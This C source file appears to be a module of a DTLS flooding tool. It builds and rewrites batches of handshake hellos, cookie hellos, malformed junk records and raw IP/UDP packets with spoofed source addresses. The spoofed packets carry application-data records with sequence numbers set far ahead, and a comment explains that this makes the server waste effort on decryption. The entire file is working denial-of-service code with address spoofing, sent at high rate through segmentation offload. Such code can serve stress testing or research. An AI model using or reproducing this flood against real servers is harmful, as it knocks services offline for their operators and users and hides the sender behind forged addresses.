/* SPDX-License-Identifier: MIT
 * A flood's datagrams: made once, and changed in place before each send. */
#include "volley.h"
#include "options.h"
#include <errno.h>
#include <unistd.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdlib.h>
#include <string.h>

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

enum {
    IP_UDP = sizeof(struct iphdr) + sizeof(struct udphdr),
    MESSAGE_MAX = 65000,
    RANDOM_LEN = 8,
    APPLICATION_DATA = 23
};

#define FAR_AHEAD (UINT64_C(1) << 40)

/* ---- the datagrams as they are made ---- */

static void
make_hello(uint8_t *out, size_t size, const cookie *c)
{
    uint8_t hello[WIRE_MAX];
    size_t first = c != NULL ? size - c->len : size;

    if (!wire_hello(hello, first))
        refuse("-s", "a hello has 205, or from 209 to 1400 bytes, and with a "
                     "cookie more by as much");
    if (c != NULL)
        wire_second(out, hello, first, c);
    else
        memcpy(out, hello, first);
}

static void
fill(uint8_t *out, size_t len, uint64_t seed)
{
    for (size_t i = 0; i < len; i++)
        out[i] = (uint8_t)wire_random(seed + i);
}

/* Every other one begins with what begins no DTLS record, the others with a
 * header as of one. */
static void
make_junk(uint8_t *out, size_t size, unsigned i)
{
    static const uint8_t types[] = {20, 21, 22, 23, 24, 25};

    fill(out, size, (uint64_t)i * size);
    if (i % 2 == 0)
        out[0] |= 0x80;
    else
        wire_record(out, types[i / 2 % sizeof(types)], i / 2 % 3 == 0,
                    size - WIRE_HEADER);
}

static void
make_spoofed(uint8_t *out, size_t size, const struct sockaddr_in *to)
{
    struct iphdr ip = {.version = 4,
                       .ihl = sizeof(ip) / 4,
                       .ttl = 64,
                       .protocol = IPPROTO_UDP,
                       .daddr = to->sin_addr.s_addr};
    struct udphdr udp = {.dest = to->sin_port,
                         .len = htons((uint16_t)(sizeof(udp) + size))};

    ip.tot_len = htons((uint16_t)(IP_UDP + size));
    memcpy(out, &ip, sizeof(ip));
    memcpy(out + sizeof(ip), &udp, sizeof(udp));
    wire_record(out + IP_UDP, APPLICATION_DATA, 1, size - WIRE_HEADER);
    fill(out + IP_UDP + WIRE_HEADER, size - WIRE_HEADER, size);
}

static void
make_datagrams(volley *v, const cookie *c, const struct sockaddr_in *to)
{
    for (unsigned i = 0; i < v->max; i++) {
        uint8_t *out = v->data + i * v->stride;

        if (v->kind == JUNK)
            make_junk(out, v->size, i);
        else if (v->kind == EPOCH1)
            make_spoofed(out, v->size, to);
        else
            make_hello(out, v->size, c);
    }
}

/* ---- messages ---- */

static void
set_segment_size(struct msghdr *header, size_t size)
{
    uint16_t segment = (uint16_t)size;
    struct cmsghdr *control = CMSG_NXTHDR(header, CMSG_FIRSTHDR(header));

    control->cmsg_level = IPPROTO_UDP;
    control->cmsg_type = UDP_SEGMENT;
    control->cmsg_len = CMSG_LEN(sizeof(segment));
    memcpy(CMSG_DATA(control), &segment, sizeof(segment));
}

static void
make_message(volley *v, unsigned m, const struct sockaddr_in *to)
{
    struct msghdr *header = &v->headers[m].msg_hdr;

    v->parts[m].iov_base = v->data + m * v->segments * v->stride;
    v->parts[m].iov_len = v->segments * v->stride;
    header->msg_iov = &v->parts[m];
    header->msg_iovlen = 1;
    header->msg_name = (void *)(uintptr_t)to;
    header->msg_namelen = sizeof(*to);
    if (v->kind == EPOCH1)
        return;
    header->msg_control = v->control[m];
    header->msg_controllen = sizeof(v->control[m]);
    set_source(header, FLOOD_ADDRESS);
    if (v->segments > 1)
        set_segment_size(header, v->size);
    else
        header->msg_controllen = CMSG_SPACE(sizeof(struct in_pktinfo));
}

void
volley_init(volley *v, kind k, size_t size, int gso, const cookie *c,
            const struct sockaddr_in *to)
{
    size_t segments = MESSAGE_MAX / size;

    if (segments > SEGMENTS_MAX)
        segments = SEGMENTS_MAX;
    *v = (volley){.kind = k, .size = size, .seed = (uint64_t)getpid() << 40};
    v->segments = gso ? (unsigned)segments : 1;
    v->max = gso ? VOLLEY_MAX / v->segments * v->segments : BATCH;
    v->stride = k == EPOCH1 ? IP_UDP + size : size;
    v->data = calloc(v->max, v->stride);
    if (v->data == NULL)
        refuse("the flood", strerror(errno));
    make_datagrams(v, c, to);
    for (unsigned m = 0; m < v->max / v->segments; m++)
        make_message(v, m, to);
}

void
volley_free(volley *v)
{
    free(v->data);
}

void
volley_set_source(volley *v, unsigned message, uint32_t address)
{
    struct cmsghdr *control = (void *)v->control[message];
    struct in_pktinfo *info = (void *)CMSG_DATA(control);

    info->ipi_spec_dst.s_addr = htonl(address);
}

void
volley_spoof(volley *v, unsigned i, const struct sockaddr_in *from)
{
    uint8_t *out = v->data + i * v->stride;

    memcpy(out + offsetof(struct iphdr, saddr), &from->sin_addr,
           sizeof(from->sin_addr));
    memcpy(out + sizeof(struct iphdr) + offsetof(struct udphdr, source),
           &from->sin_port, sizeof(from->sin_port));
}

/* ---- before each send ---- */

static void
set_junk(uint8_t *datagram, unsigned i, uint64_t seed)
{
    uint64_t part = wire_random(seed);

    memcpy(datagram + (i % 2 == 0 ? 1 : WIRE_HEADER), &part, RANDOM_LEN);
}

/* Numbers ahead of all genuine ones: one of the past costs no decryption. */
static void
set_spoofed(uint8_t *record, uint64_t seed)
{
    uint64_t part = wire_random(seed);

    wire_set_number(record, FAR_AHEAD + (seed & 0xffffffff));
    memcpy(record + WIRE_HEADER, &part, RANDOM_LEN);
}

static void
change(volley *v, unsigned i)
{
    uint8_t *datagram = volley_datagram(v, i);
    uint64_t seed = v->seed++;

    switch (v->kind) {
    case HELLO:
        wire_set_random(datagram, seed);
        break;
    case COOKIE:
        wire_set_random(datagram, seed);
        wire_set_cookie_end(datagram, seed);
        break;
    case JUNK:
        set_junk(datagram, i, seed);
        break;
    case EPOCH1:
        set_spoofed(datagram, seed);
        break;
    default:
        break;
    }
}

unsigned
volley_refresh(volley *v, unsigned n)
{
    unsigned messages = (n + v->segments - 1) / v->segments;
    unsigned last = n - (messages - 1) * v->segments;

    for (unsigned i = 0; i < n; i++)
        change(v, i);
    for (unsigned m = 0; m < messages; m++)
        v->parts[m].iov_len =
            (m + 1 < messages ? v->segments : last) * v->stride;
    return messages;
}

uint8_t *
volley_datagram(volley *v, unsigned i)
{
    return v->data + i * v->stride + (v->kind == EPOCH1 ? IP_UDP : 0);
}
